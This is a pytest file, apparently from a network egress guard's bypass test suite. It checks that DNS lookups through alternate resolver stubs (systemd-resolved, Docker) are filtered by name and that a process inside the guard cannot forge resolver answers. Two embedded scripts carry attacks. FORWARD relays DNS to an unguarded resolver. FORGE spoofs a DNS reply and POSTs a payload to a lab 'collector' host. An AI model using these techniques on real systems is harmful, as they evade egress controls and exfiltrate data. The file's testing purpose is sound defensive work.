# SPDX-License-Identifier: MIT
"""T20: a resolver of this machine, which is not guarded, asks for whatever the job wants to know.

Every way to it must be a question, judged by its name: the one that ``resolv.conf`` says, and
those next to it. And nobody inside the guard may answer in its place.
"""

from __future__ import annotations

import secrets
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import pytest

from bypass.case import JOB, Case
from bypass.conftest import Scene
from lab import Lab
from lab.guard import DENIED, Guarded
from lab.network import COLLECTOR, HOME, RESOLVER

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

POLICY = "version: 1\nallow: home.test\n"
STOLEN = "stolen.collector.test"
FORWARD = """\
import contextlib, socket, sys, threading
address, port, resolver = sys.argv[1], int(sys.argv[2]), (sys.argv[3], 53)
def by_tcp(server):
    while True:
        with server.accept()[0] as client, socket.create_connection(resolver) as there:
            with contextlib.suppress(OSError):
                there.sendall(client.recv(4096) or b"\\0")
                client.sendall(there.recv(4096))
threading.Thread(target=by_tcp, args=(socket.create_server((address, port)),), daemon=True).start()
here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
here.bind((address, port))
there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
there.connect(resolver)
print("ready", flush=True)
while True:
    data, client = here.recvfrom(4096)
    there.send(data)
    here.sendto(there.recv(4096), client)
"""
STUBS = [
    pytest.param("127.0.0.53", "127.0.0.54", 53, id="systemd-resolved's other stub"),
    pytest.param("127.0.0.11", "127.0.0.11", 34567, id="the port of Docker's resolver"),
]


@contextmanager
def stub(lab: Lab, configured: str, address: str, port: int) -> Iterator[None]:
    """A machine whose resolver is ``configured``, which also answers at ``address``."""
    (lab.directory / "resolv.conf").write_text(f"nameserver {configured}\n")
    command = [sys.executable, "-c", FORWARD, address, str(port), RESOLVER]
    server = lab.popen(command, stdout=subprocess.PIPE)
    try:
        assert server.stdout is not None and server.stdout.readline() == "ready\n"
        yield
    finally:
        server.kill()
        server.communicate()


def dig(address: str, port: int, name: str, *options: str) -> list[str]:
    """Ask once."""
    return ["dig", f"@{address}", "-p", str(port), "+tries=1", "+time=2", "+short", *options, name]


@pytest.mark.parametrize("options", [[], ["+tcp"]], ids=["udp", "tcp"])
@pytest.mark.parametrize(("configured", "address", "port"), STUBS)
def test_each_way_to_the_resolver_is_judged_by_name(
    lab: Lab, leakstop: Guard, configured: str, address: str, port: int, options: list[str]
) -> None:
    with stub(lab, configured, address, port):
        lab.run(dig(address, port, STOLEN, *options))
        assert lab.dns.asked(STOLEN), "else the test would prove nothing"
        before = len(lab.dns.wire)
        run = leakstop(dig(address, port, STOLEN, *options), mode="block", policy=POLICY)
    assert len(lab.dns.wire) == before
    assert run.code == DENIED, run.stderr
    denied = [event for event in run.events("question") if event["applied"] == "deny"]
    assert {event["name"] for event in denied} == {STOLEN}


@pytest.mark.parametrize("options", [[], ["+tcp"]], ids=["udp", "tcp"])
@pytest.mark.parametrize(("configured", "address", "port"), STUBS)
def test_an_allowed_name_is_answered(
    lab: Lab, leakstop: Guard, configured: str, address: str, port: int, options: list[str]
) -> None:
    with stub(lab, configured, address, port):
        run = leakstop(dig(address, port, "home.test", *options), mode="block", policy=POLICY)
    assert (run.code, run.findings()) == (0, [])
    assert HOME[0] in run.stdout


FORGE = """\
import socket, struct, sys
address, port, thief, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
name = b"\\4home\\4test\\0"
question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1"
answer = struct.pack(">6H", 7, 0x8180, 1, 1, 0, 0) + question[12:]
answer += struct.pack(">HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(thief)
liar = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
liar.bind((address, 53))
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.bind(("127.0.0.1", 0))
asker.settimeout(1)
asker.sendto(question, (address, port))
try:
    if port != 53: asker.recv(999)
    liar.sendto(answer, asker.getsockname())
    asker.recv(999)
except OSError as error: print(error)
with socket.create_connection((thief, 80), 2) as there:
    head = f"POST / HTTP/1.1\\r\\nHost: home.test\\r\\nContent-Length: {len(payload)}\\r\\n\\r\\n"
    there.sendall(head.encode() + payload.encode())
    there.recv(99)
"""


@pytest.mark.parametrize(
    ("address", "port"),
    [
        pytest.param("127.0.0.11", 34567, id="beside Docker's resolver"),
        pytest.param("127.0.0.53", 53, id="in place of systemd-resolved"),
    ],
)
def test_nobody_inside_answers_as_the_resolver(
    lab: Lab, leakstop: Guard, address: str, port: int
) -> None:
    payload = secrets.token_hex(24)
    forge = [sys.executable, "-c", FORGE, address, str(port), COLLECTOR[0], payload]
    with stub(lab, address, address, 34567):
        run = leakstop(forge, mode="block", policy="version: 1\nallow: http://home.test\n")
    assert lab.collector.bytes_of(payload.encode()) == 0
    assert run.code == DENIED, run.stderr
    forged = [event for event in run.events("connect") if event["reason"] == "resolver"]
    assert [(event["policy"], event["applied"]) for event in forged] == [("deny", "deny")]


def test_nor_does_anybody_in_a_network_that_root_made(scene: Scene) -> None:
    """The lie comes over an ordinary interface, as the truth does."""
    case = Case("forged-by-a-neighbour", port=80, rule="http://a.friend.test", detour=True)
    assert scene.attempt(case).arrived, "else the test would prove nothing"
    sent = scene.attempt(case, scope="start")
    assert not sent.arrived
    assert sent.error == "EPERM"
    flows = sent.guarded.report["flows"]
    denied = {flow["reason"]: flow["ip"] for flow in flows if flow["applied"] == "deny"}
    assert denied == {"resolver": JOB[0], "not-named": case.to}
